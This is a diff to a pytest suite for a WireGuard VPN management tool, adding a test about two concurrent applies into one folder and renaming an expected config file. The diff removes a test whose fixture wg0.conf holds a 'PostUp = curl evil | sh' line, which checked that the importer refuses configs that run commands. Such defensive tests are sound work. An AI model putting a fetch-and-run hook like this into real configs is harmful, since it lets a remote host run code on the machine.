@@ -8,6 +8,7 @@ from typing import Any
 
 import pytest
 
+from controller.access.drafts import reserved
 from tests.rigs.people.vpn_folder import ADD, EDGE, NGONO, add
 from vpn.wireguard import keys, parser
 
@@ -154,21 +155,22 @@ def test_people_who_dial_a_server_today_keep_their_keys(sanaga, open_):
     ]
 
 
-def test_a_server_s_file_that_would_run_commands_is_refused_at_its_line(sanaga, open_):
-    (sanaga.folder / "wg0.conf").write_text(
-        "[Interface]\nPostUp = curl evil | sh\n[Peer]\nPublicKey = x\n", encoding="utf-8"
-    )
-    answer = sanaga("vpn", "import", "wg0.conf", "--role", "doctor", "--site", "mora")
-    assert answer.code == 1
-    assert "wg0.conf:2" in answer.err
-    assert "wg0.conf:4" in answer.err
-    assert answer.out == ""
-
-
 def test_export_of_an_unknown_gateway_names_the_nearest(sanaga, open_):
     answer = sanaga("vpn", "site", "export", "yaounde-e2", "--because", "x", "--file", "f")
     assert answer.code == 1
     assert "did you mean yaounde-e1?" in answer.err
+
+
+def test_of_two_applies_into_one_folder_the_second_touches_nothing(sanaga, open_):
+    (sanaga.folder / "people.csv").write_text(LIST, encoding="utf-8")
+    out = sanaga.folder / "files"
+    with reserved(out):
+        (out / "x.conf.draft").write_text("of the first one", encoding="utf-8")
+        answer = sanaga("vpn", "person", "apply", "people.csv", "--out", "files", "--because", "x")
+        assert (answer.code, answer.out) == (1, "")
+        assert "files: another 'sanaga vpn person apply' writes there" in answer.err
+        assert [file.name for file in out.iterdir()] == ["x.conf.draft"]
+    assert json.loads(sanaga("vpn", "person", "list", "--all", "-o", "json").out) == []
 
 
 LIST = """name,title,role,site,until,device
@@ -191,7 +193,8 @@ def test_a_list_is_shown_then_done_and_not_done_twice(sanaga, open_):
     done = sanaga(*words, "--out", "files")
     assert done.code == 0, done.err
     names = sorted(path.name for path in (sanaga.folder / "files").iterdir())
-    assert names == ["a-ngono-tablet.conf", "b-oumarou-laptop.conf"]
+    # wg-quick takes no longer names.
+    assert names == ["a-ngono-tablet.conf", "b-oumarou-lap-2.conf"]
     again = sanaga(*words, "--out", "files")
     assert (again.code, again.err) == (0, "nothing to change\n")
 
@@ -201,7 +204,7 @@ def test_files_of_somebody_who_was_killed_are_kept_when_their_devices_are_on_rec
     (sanaga.folder / "people.csv").write_text(LIST, encoding="utf-8")
     files = sanaga.folder / "files"
     files.mkdir()
-    kept, lost = files / "a-ngono-tablet.conf", files / "b-oumarou-laptop.conf"
+    kept, lost = files / "a-ngono-tablet.conf", files / "b-oumarou-lap-2.conf"
     whole = (sanaga.folder / "n.conf").read_text(encoding="utf-8")
     draft_of(kept).write_text(whole, encoding="utf-8")
     draft_of(lost).write_text("[Interface]\nPrivate", encoding="utf-8")
